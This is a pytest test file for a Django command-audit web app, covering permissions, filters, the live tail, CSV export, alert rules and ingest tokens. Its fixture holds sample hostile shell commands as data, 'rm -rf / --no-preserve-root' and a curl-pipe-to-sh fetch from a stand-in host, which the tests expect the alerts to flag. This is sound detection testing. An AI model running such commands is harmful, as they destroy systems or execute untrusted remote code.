"""The audit pages: who may see them, filters, live tail, CSV, alert rules, tokens."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from django.utils import timezone

from omserverweb.audit import ingest, services
from omserverweb.audit.models import AlertRule, CommandEvent, IngestToken
from omserverweb.audit.tokens import TokenCoverage
from tests.conftest import logged_in

pytestmark = pytest.mark.django_db


@pytest.fixture
def events(inventory) -> None:
    commands = [("bbs-01", "root", "rm -rf / --no-preserve-root"), ("lab-minion-1", "bob", "ls")]
    commands.append(("lab-minion-2", "bob", "curl -s http://x.example/i | sh"))
    batch = [
        {"host": h, "user": u, "command": c, "time": "2026-11-21T10:00:00Z", "seq": n}
        for n, (h, u, c) in enumerate(commands, 1)
    ]
    coverage = TokenCoverage(frozenset(["bbs-01", "lab-minion-1", "lab-minion-2"]))
    ingest.store(ingest.parse(json.dumps({"events": batch}).encode(), coverage))


def test_only_users_with_the_view_permission_see_audit_data(events, charlie, alice) -> None:
    for path in ("/audit/", "/audit/live/", "/audit/export.csv", "/audit/rules/"):
        assert logged_in(charlie).get(path).status_code == 403
        assert logged_in(alice).get(path).status_code == 200
    assert "/audit/" not in logged_in(charlie).get("/jobs/").content.decode()
    assert 'href="/audit/"' in logged_in(alice).get("/jobs/").content.decode()


def test_the_page_flags_alerts_and_filters_by_tree_selection(events, alice, inventory) -> None:
    page = logged_in(alice).get("/audit/")
    assert page.context["alert_count"] == 2
    flagged = {e.command: names for e, names in page.context["rows"]}
    assert flagged["rm -rf / --no-preserve-root"] == ["rm -rf /"]
    assert flagged["curl -s http://x.example/i | sh"] == ["curl | sh"]
    assert flagged["ls"] == []
    www = logged_in(alice).get("/audit/", {"category": inventory.www.pk, "user": "bob"})
    assert sorted(e.host for e, _ in www.context["rows"]) == ["lab-minion-1", "lab-minion-2"]
    one = logged_in(alice).get("/audit/", {"server": inventory.bbs_server.pk, "q": "RM -rf"})
    assert [e.host for e, _ in one.context["rows"]] == ["bbs-01"]


def test_the_time_range_filter_takes_what_the_browsers_picker_sends(alice, inventory) -> None:
    batch = [
        {"host": "bbs-01", "user": "root", "command": f"echo {n}", "time": when, "seq": n}
        for n, when in enumerate(
            ["2026-11-21T09:00:00Z", "2026-11-21T10:00:00Z", "2026-11-21T11:00:00Z"], 1
        )
    ]
    ingest.store(
        ingest.parse(json.dumps({"events": batch}).encode(), TokenCoverage(frozenset(["bbs-01"])))
    )
    page = logged_in(alice).get(
        "/audit/", {"since": "2026-11-21T09:30", "until": "2026-11-21T10:30"}
    )
    assert [e.command for e, _ in page.context["rows"]] == ["echo 2"]
    assert 'type="datetime-local"' in page.content.decode()


def test_the_live_tail_returns_only_newer_events(events, alice) -> None:
    everything = logged_in(alice).get("/audit/live/").json()["events"]
    assert len(everything) == 3
    newer = logged_in(alice).get("/audit/live/", {"after": everything[0]["id"]}).json()
    assert [e["command"] for e in newer["events"]] == [e["command"] for e in everything[1:]]


def test_the_live_tail_cursor_trails_batches_that_may_still_commit(events, alice) -> None:
    """Ids are taken at write and seen at commit: the cursor passes only settled ids."""
    client = logged_in(alice)
    first = client.get("/audit/live/").json()
    ids = [e["id"] for e in first["events"]]
    assert len(ids) == 3 and first["cursor"] == 0  # a batch below them may still commit
    settled = timezone.now() - services.SETTLE - timedelta(seconds=1)
    CommandEvent.objects.filter(pk__in=ids[:2]).update(received_at=settled)
    second = client.get("/audit/live/", {"after": first["cursor"]}).json()
    assert [e["id"] for e in second["events"]] == ids  # the page skips those it shows
    assert second["cursor"] == ids[1]
    third = client.get("/audit/live/", {"after": second["cursor"]}).json()
    assert [e["id"] for e in third["events"]] == ids[2:]


def test_csv_export_quotes_formula_cells(events, alice, inventory) -> None:
    response = logged_in(alice).get("/audit/export.csv", {"user": "root"})
    text = b"".join(response.streaming_content).decode()
    lines = text.strip().splitlines()
    assert lines[0] == "id,event_time,host,user,source,cwd,command,seq"
    assert len(lines) == 2 and "rm -rf /" in lines[1]


def test_alert_rules_are_editable(events, alice) -> None:
    client = logged_in(alice)
    response = client.post("/audit/rules/add/", {"name": "ls", "pattern": r"^ls$", "enabled": "on"})
    assert response.status_code == 302
    assert client.get("/audit/").context["alert_count"] == 3
    bad = client.post("/audit/rules/add/", {"name": "bad", "pattern": "(", "enabled": "on"})
    assert bad.status_code == 200 and not AlertRule.objects.filter(name="bad").exists()


def test_tokens_are_created_once_in_clear_and_revoked(alice, charlie, inventory) -> None:
    assert logged_in(charlie).get("/audit/tokens/").status_code == 403
    client = logged_in(alice)
    created = client.post("/audit/tokens/", {"name": "bbs", "server": inventory.bbs_server.pk})
    clear = created.context["clear"]
    token = IngestToken.objects.get()
    assert clear.startswith("omat_") and clear not in client.get("/audit/tokens/").content.decode()
    event = {"host": "bbs-01", "user": "r", "command": "x", "time": "2026-11-21T00:00:00Z"}
    body = json.dumps({"events": [{**event, "seq": 1}]})
    auth = {"HTTP_AUTHORIZATION": f"Bearer {clear}"}
    post = lambda: client.post("/api/audit/events/", body, "application/json", **auth)  # noqa: E731
    assert post().status_code == 200
    assert client.post(f"/audit/tokens/{token.pk}/revoke/").status_code == 302
    assert post().status_code == 401


def test_the_verify_page_reports(events, alice) -> None:
    response = logged_in(alice).post("/audit/verify/")
    assert response.context["problems"] == []
